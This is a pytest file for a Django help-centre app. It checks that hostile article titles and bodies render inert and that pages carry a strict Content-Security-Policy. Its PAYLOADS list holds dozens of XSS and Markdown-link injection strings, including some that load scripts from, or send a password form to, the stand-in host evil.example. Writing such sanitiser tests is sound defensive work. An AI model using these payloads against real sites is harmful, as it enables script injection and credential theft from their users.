"""Articles with hostile text: what authors or an import bring in does nothing on the page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.core.cache import cache
from django.test import Client

from tests.knowledge.factories import ArticleFactory, VersionFactory, published

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=p type=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>body{background:url(//evil.example)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x]( \x01javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](/help/images/../../admin/logout/)",
    "![x](/admin/logout/)",
    '![x" onerror="alert(1)](/help/images/1-abcdef)',
    '[x](/y "z\\" onmouseover=\\"alert(1)")',
    '# x" onmouseover="alert(1)',
    "# <img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
    "[[x|<script>alert(1)</script>]]",
    "1. <script>\n\n   alert(1)\n\n   </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "{{ request }} {% load static %} {% debug %}",
]
ALLOWED = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s", "a", "hr",
    "br", "table", "thead", "tbody", "tr", "th", "td", "div", "img",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "class", "id", "src", "alt", "loading", "scope", "start", "tabindex"}


class Reader(HTMLParser):
    """The elements of a page as a browser reads them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    return reader.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_stays_text(client: Client, payload: str) -> None:
    cache.clear()
    article = ArticleFactory.create()
    body = payload.replace("\x00", "")
    published(VersionFactory.create(article=article, title=payload.replace("\n", " ")[:200], body=body))
    response = client.get(f"/help/articles/{article.slug}/")
    page = response.content.decode()
    shown = re.search(r'<div class="help-body">(.*)</div>\s*<section class="help-feedback"', page, re.DOTALL)
    assert shown is not None
    for tag, attributes in elements(shown[1]):
        assert tag in ALLOWED, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        href = attributes.get("href") or ""
        assert re.match(r"(https?:|mailto:|/|#|[^:]*$)", href), href
        if tag == "img":
            assert re.fullmatch(r"/help/images/[\w-]+(\.[a-z]+)?", attributes["src"] or "")
    for tag, attributes in elements(page):  # also where the title stands
        assert not [name for name in attributes if name.startswith("on") or name == "style"], attributes
        if tag == "script":
            assert (attributes.get("src") or "").startswith("/static/help/help")
    assert len([tag for tag, _ in elements(page) if tag == "script"]) == 1


def test_pages_forbid_what_is_not_ours(client: Client) -> None:
    version = published(VersionFactory.create())
    for path in ("/help/", f"/help/articles/{version.article.slug}/", "/help/search/?q=x", "/help/articles/none/"):
        response = client.get(path)
        policy = response["Content-Security-Policy"]
        assert "script-src 'self';" in policy + ";"
        assert "unsafe" not in policy
        page = response.content.decode()
        assert not re.search(r"<script(?![^>]*src=)|<style|\sstyle=|\son\w+=", page)
